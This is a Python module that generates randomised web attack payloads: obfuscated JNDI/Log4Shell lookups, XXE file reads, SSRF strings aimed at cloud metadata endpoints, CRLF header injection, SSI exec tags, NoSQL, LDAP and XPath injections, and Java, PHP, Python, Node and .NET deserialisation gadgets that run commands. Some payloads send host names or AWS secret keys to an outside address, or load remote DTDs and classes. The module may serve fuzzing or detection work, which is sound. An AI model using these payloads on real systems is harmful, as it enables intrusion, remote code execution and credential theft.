"""Attacks on what stands behind a site: look-ups, parsers, other hosts, stores."""

from .api_payloads import address, command, num, some, tag
from .sql_values import pick, word


def jndi(rng):
    scheme = pick(rng, ["ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "http", "corba", "nis"])
    name = "jndi"
    if rng.random() < 0.5:
        form = pick(
            rng,
            [
                "${{lower:{}}}",
                "${{upper:{}}}",
                "${{::-{}}}",
                "${{env:" + tag(rng) + ":-{}}}",
                "${{date:'{}'}}",
                "${{sys:x:-{}}}",
                "${{" + tag(rng) + ":{}:-{}}}",
            ],
        )
        name = "".join(
            form.replace("{}", c).replace("{{", "{").replace("}}", "}") if rng.random() < 0.5 else c
            for c in name
        )
    if rng.random() < 0.2:
        scheme = "".join("${lower:" + c + "}" if rng.random() < 0.5 else c for c in scheme)
    leak = pick(
        rng, ["", "", "${hostName}.", "${env:USER}.", "${sys:java.version}.", "${java:os}."]
    )
    tail = pick(
        rng,
        ["", "/" + tag(rng), "/Basic/Command/Base64/" + tag(rng), "/${env:AWS_SECRET_ACCESS_KEY}"],
    )
    text = (
        f"${{{name}:{scheme}:{pick(rng, ['//', '//', '/', '${::-/}/'])}{leak}{address(rng)}{tail}}}"
    )
    return pick(rng, ["", "", "", word(rng) + " ", "Mozilla/5.0 "]) + text


def xxe(rng):
    file = some(
        rng,
        pick(
            rng,
            [
                "file:///etc/passwd",
                "file:///c:/windows/win.ini",
                "http://{a}/{w}.dtd",
                "php://filter/convert.base64-encode/resource={w}.php",
                "expect://id",
                "ftp://{a}/",
                "file:///proc/self/environ",
                "http://169.254.169.254/",
                "jar:http://{a}!/{w}",
                "netdoc:///etc/passwd",
                "/dev/random",
            ],
        ),
    )
    name = word(rng)
    head = pick(
        rng,
        [
            '<?xml version="1.0"?>',
            '<?xml version="1.0" encoding="UTF-8"?>\n',
            "",
            "<?xml version='1.0'?>",
        ],
    )
    how = pick(rng, ["SYSTEM", "SYSTEM", 'PUBLIC "x"'])
    q = pick(rng, ['"', "'"])
    forms = [
        f"{head}<!DOCTYPE {name} [<!ENTITY {tag(rng)} {how} {q}{file}{q}>]><{name}>&xxe;</{name}>",
        f"{head}<!DOCTYPE {name} [<!ENTITY % {tag(rng)} {how} {q}{file}{q}> %{tag(rng)};]>",
        f"{head}<!DOCTYPE {name} {how} {q}{file}{q}><{name}>{word(rng)}</{name}>",
        f"<!DOCTYPE {name} [<!ELEMENT {name} ANY >\n<!ENTITY xxe {how} {q}{file}{q} >]>\n<{name}>&xxe;</{name}>",
        f'<{name} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{file}"/></{name}>',
        f'{head}<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;">]><lolz>&lol1;</lolz>',
        f"<xsl:value-of select=\"document('{file}')\"/>",
        f"<xsl:stylesheet><xsl:value-of select=\"php:function('system','id')\"/></xsl:stylesheet>",
        f'<soap:Envelope><soap:Body><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "{file}"> %dtd;]><x/>]]></soap:Body>',
        f'<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="{file}"/></svg>',
    ]
    return pick(rng, forms)


def ssrf(rng):
    inner = pick(
        rng,
        [
            "127.0.0.1",
            "localhost",
            "169.254.169.254",
            "0.0.0.0",
            "[::1]",
            "0x7f000001",
            "2130706433",
            "127.1",
            "10.0.0.1",
            "192.168.1.1",
            "017700000001",
            "[::ffff:127.0.0.1]",
            "metadata.google.internal",
            "100.100.100.200",
            "127.0.0.1.nip.io",
            "0",
        ],
    )
    port = pick(rng, ["", "", ":80", ":22", ":6379", ":8080", ":9200", ":3306", ":25", ":2375"])
    path = pick(
        rng,
        [
            "",
            "/",
            "/admin",
            "/latest/meta-data/iam/security-credentials/",
            "/server-status",
            "/latest/meta-data/",
            "/computeMetadata/v1/instance/",
            "/metadata/instance?api-version=2021-02-01",
            "/latest/user-data",
            "/_cat/indices",
            "/v1.24/containers/json",
            "/" + word(rng),
        ],
    )
    scheme = pick(
        rng,
        ["http://"] * 6
        + [
            "https://",
            "gopher://",
            "dict://",
            "ftp://",
            "//",
            "ldap://",
            "tftp://",
            "sftp://",
            "http:\\\\",
        ],
    )
    if scheme in ("gopher://", "dict://"):
        path = pick(
            rng,
            [
                "/_GET%20/%20HTTP/1.0%0d%0a",
                "/_*1%0d%0a$8%0d%0aflushall%0d%0a",
                "/info",
                "/_%0d%0aset%20x",
            ],
        )
    user = pick(rng, ["", "", "", "x@", "google.com@", f"{address(rng)}@", f"{address(rng)}#@"])
    near = inner in ("10.0.0.1", "192.168.1.1", "0") and path in ("", "/")
    text = f"{scheme}{user}{inner}{':6379' if near else port}{'/admin' if near else path}"
    if rng.random() < 0.2:
        host = pick(
            rng,
            [
                "{t}.oastify.com",
                "{t}.burpcollaborator.net",
                "{t}.interact.sh",
                "{t}.dnslog.cn",
                "{t}.ceye.io",
                "{t}.oast.fun",
            ],
        )
        text = f"{pick(rng, ['http://', 'https://', '//', ''])}{some(rng, host)}/{word(rng)}"
    return text


def crlf(rng):
    end = pick(
        rng,
        [
            "\r\n",
            "\r\n",
            "\n",
            "\r",
            "%0d%0a",
            "%0D%0A",
            "%0a",
            "%E5%98%8A%E5%98%8D",
            "\\r\\n",
            "%u000d%u000a",
        ],
    )
    header = pick(
        rng,
        [
            f"Set-Cookie:{word(rng)}={tag(rng)}",
            f"Set-Cookie: {word(rng)}={num(rng)}",
            f"Location: http://{address(rng)}",
            f"X-{word(rng)}: {tag(rng)}",
            "Content-Length: 0",
            f"Content-Type: text/html{end}{end}<script>alert(1)</script>",
            f"Host: {address(rng)}",
            "HTTP/1.1 200 OK",
            f"Set-cookie: Tamper={num(rng)}{num(rng)}",
            "Transfer-Encoding: chunked",
            f"Bcc: {word(rng)}@{address(rng)}",
            f"Refresh: 0;url=//{address(rng)}",
            "GET / HTTP/1.1",
            f"Access-Control-Allow-Origin: {address(rng)}",
            f"bcc:{word(rng)}@{word(rng)}.com",
        ],
    )
    lead = pick(
        rng, ["", word(rng), num(rng), f"{word(rng)}?", f"http://{address(rng)}/", "any", "/"]
    )
    tail = pick(
        rng, ["", end, end * 2 + f"<html>{word(rng)}</html>", f"{end}{word(rng)}: {tag(rng)}"]
    )
    return lead + end * rng.randint(1, 2) + header + tail


def ssi(rng):
    text = pick(
        rng,
        [
            '<!--#exec cmd="{c}"-->',
            '<!--#include virtual="/etc/passwd"-->',
            '<!--#echo var="{w}"-->',
            '<!--#include file="{w}.cgi"-->',
            "<!--#printenv -->",
            '"><!--#exec cmd="{c}" -->',
            '<!--#config timefmt="%D"-->',
            '<!--#EXEC cmd="{c}"-->',
            '<esi:include src="http://{a}/{w}"/>',
            "<!--esi <esi:vars>$(HTTP_COOKIE)</esi:vars>-->",
            "<!--#exec cgi='/cgi-bin/{w}'-->",
        ],
    )
    return pick(rng, ["", "", word(rng)]) + some(rng, text)


def nosql(rng):
    text = pick(
        rng,
        [
            "';return true;var x='",
            "' || '1'=='1",
            "'||this.{w}=='",
            '{"$ne":null}',
            '{"$gt":""}',
            '{"$regex":".*"}',
            '{"$where":"sleep(5000)"}',
            "true, $where: '1 == 1'",
            "', $or: [ {}, {'a':'a",
            "db.{w}.find()",
            "'; while(true){}'",
            "[$ne]",
            "a'; return this.{w} == '{w}' || 'a'=='a",
            "\"; return(true); var xyz='a",
            '{"$nin":["{w}"]}',
            "{$gt:''}",
            "' && this.password.match(/.*/)//+%00",
            "{ $ne: 1 }",
            "1;sleep(5000)",
            '{"username":{"$ne":"x"}}',
            "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)",
            "'|| 1==1//",
            "'|| 1==1%00",
            "db.injection.insert({success:1});return 1;db.stores.mapReduce(function() { { emit(1,1",
        ],
    )
    return some(rng, text)


def nosql_name(rng):
    return f"{word(rng)}[{pick(rng, ['$ne', '$gt', '$lt', '$regex', '$where', '$nin', '$in', '$exists', '$gte', '$or', '$type'])}]{pick(rng, ['', '', '[]'])}"


def directory(rng):
    text = pick(
        rng,
        [
            "*)(uid=*))(|(uid=*",
            "*)(|(mail=*))",
            "admin)(&)",
            "*)(objectClass=*)",
            ")(cn=*",
            "*)(&",
            "{w})(|(password=*)",
            "*))%00",
            "x' or name()='username' or 'x'='y",
            "' or count(parent::*[position()=1])=0 or 'a'='b",
            "'] | //{w} | //{w}['",
            "' or string-length(name(/*[1]))={n} or '",
            "x'or 1=1 or 'x'='y",
            "*()|%26'",
            "*(|(objectclass=*))",
            "(|(cn={w})(mail=*))",
            "//*",
            "' and count(/*)=1 and '1'='1",
            "@*",
            "admin*)((|userpassword=*)",
            "{w})(!(&(1=0",
            "%2A%28%7C%28mail%3D%2A%29%29",
        ],
    )
    return some(rng, text)


def serialised(rng):
    text = pick(
        rng,
        [
            'O:{n}:"{w}":1:{s:4:"{w}";s:{n}:"{c}";}',
            'a:1:{i:0;O:8:"stdClass":1:{s:1:"a";N;}}',
            'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}',
            '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://{a}/{t}","autoCommit":true}',
            '"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"',
            '{"a":{"@type":"java.net.Inet4Address","val":"{a}"}}',
            '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>{c}</string></void></array><void method="start"/></object></java>',
            '<java version="1.8.0_131" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder">',
            '!!python/object/apply:os.system ["{c}"]',
            '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{a}/"]]]]',
            "cos\nsystem\n(S'{c}'\ntR.",
            '_$$ND_FUNC$$_function(){require("child_process").exec("{c}")}()',
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.ProcessBuilder"><string>{c}</string>',
            '<map><entry><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"/>',
            '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>{c}</string>',
            '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process"}}',
            "phar://{w}.jpg",
            "com.alibaba.fastjson.parser.Feature",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAK{t}",
            "TypeError: org.apache.commons.collections.functors.InvokerTransformer",
            '["org.springframework.context.support.ClassPathXmlApplicationContext","http://{a}/{w}.xml"]',
            "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashSet",
        ],
    )
    return some(rng, text)
